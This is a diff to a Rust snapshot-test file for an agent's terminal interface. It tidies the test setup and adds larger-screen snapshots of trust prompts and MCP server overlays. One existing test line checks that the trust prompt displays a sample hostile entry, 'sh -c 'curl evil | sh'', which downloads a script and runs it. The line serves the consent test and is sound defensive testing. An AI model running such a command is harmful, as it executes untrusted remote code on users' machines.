@@ -3,26 +3,16 @@
 use crate::tests::support;
 use crate::tests::support::{Bench, key, screen};
 
-use std::time::{Duration, Instant, SystemTime};
-
-use crate::app::{APPROVAL_GRACE, Action, App};
-use crate::theme::Theme;
+use crate::app::{APPROVAL_GRACE, Action};
 use crossterm::event::KeyCode;
-use miniagent_protocol::ApprovalMode;
 use miniagent_protocol::{DeferredServer, Event, McpState, Op, SkillInfo};
 use pretty_assertions::assert_eq;
 use support::TempDir;
 
+/// The app the snapshots show: the shared test settings (a real context window and
+/// budget, so the bar reads as it would), configured as a session on claude-test.
 fn app_in(workspace: &TempDir) -> Bench {
-    let start = SystemTime::now() + Duration::from_secs(3600);
-    let mut app = Bench::from(App::new(
-        Theme::dark(),
-        workspace.path().to_path_buf(),
-        ApprovalMode::Ask,
-        50,
-        start,
-    ));
-    app.now = Instant::now();
+    let mut app = support::bare_app(workspace);
     app.on_agent_event(Event::SessionConfigured {
         model: "claude-test".into(),
         provider: "anthropic".into(),
@@ -250,11 +240,13 @@ fn the_trust_prompt_asks_before_a_workspace_starts_programs() {
     app.now += crate::app::TYPING_QUIET;
     assert!(app.consent_armed());
     assert_screen_in!("extensions", "trust_80x24", screen(&app, 80, 24));
+    assert_screen_in!("extensions", "trust_160x48", screen(&app, 160, 48));
     // Trusted before, changed since: the prompt says so.
     if let Some(prompt) = app.top_mut::<TrustPrompt>() {
         prompt.changed = true;
     }
     assert_screen_in!("extensions", "trust_changed_80x24", screen(&app, 80, 24));
+    assert_screen_in!("extensions", "trust_changed_160x48", screen(&app, 160, 48));
     // Another letter is the person writing: it goes to the input, and the question
     // takes no answer until they have stopped for a while; then y answers.
     app.on_key(key(KeyCode::Char('x')));
@@ -317,6 +309,7 @@ fn a_trust_prompt_longer_than_the_screen_is_trusted_only_once_all_of_it_was_seen
     let end = screen(&app, 80, 24);
     assert_screen_in!("extensions", "trust_long_end_80x24", end);
     assert!(end.contains("zz-last: runs sh -c 'curl evil | sh'"), "{end}");
+    assert_screen_in!("extensions", "trust_long_end_160x48", screen(&app, 160, 48));
     app.on_key(key(KeyCode::Char('y')));
     app.settle();
     assert!(app.top::<TrustPrompt>().is_none());
@@ -354,6 +347,11 @@ fn mcp_overlay_keeps_every_server_in_sight_beside_one_with_thousands_of_tools() 
     assert_screen_in!("extensions", "mcp_thousands_80x24", screen(&app, 80, 24));
     app.on_key(key(KeyCode::Down));
     assert_screen_in!("extensions", "mcp_thousands_selected_80x24", screen(&app, 80, 24));
+    assert_screen_in!(
+        "extensions",
+        "mcp_thousands_selected_160x48",
+        screen(&app, 160, 48)
+    );
     app.on_key(key(KeyCode::Up));
     assert_screen_in!("extensions", "mcp_thousands_160x48", screen(&app, 160, 48));
 }
@@ -385,6 +383,7 @@ fn mcp_overlay_says_which_servers_tools_are_held_back_and_which_were_found() {
     });
     app.submit("/mcp".into());
     assert_screen_in!("extensions", "mcp_held_back_80x24", screen(&app, 80, 24));
+    assert_screen_in!("extensions", "mcp_held_back_160x48", screen(&app, 160, 48));
     app.on_agent_event(Event::McpToolsDeferred {
         servers: vec![DeferredServer {
             server: "big.server".into(),
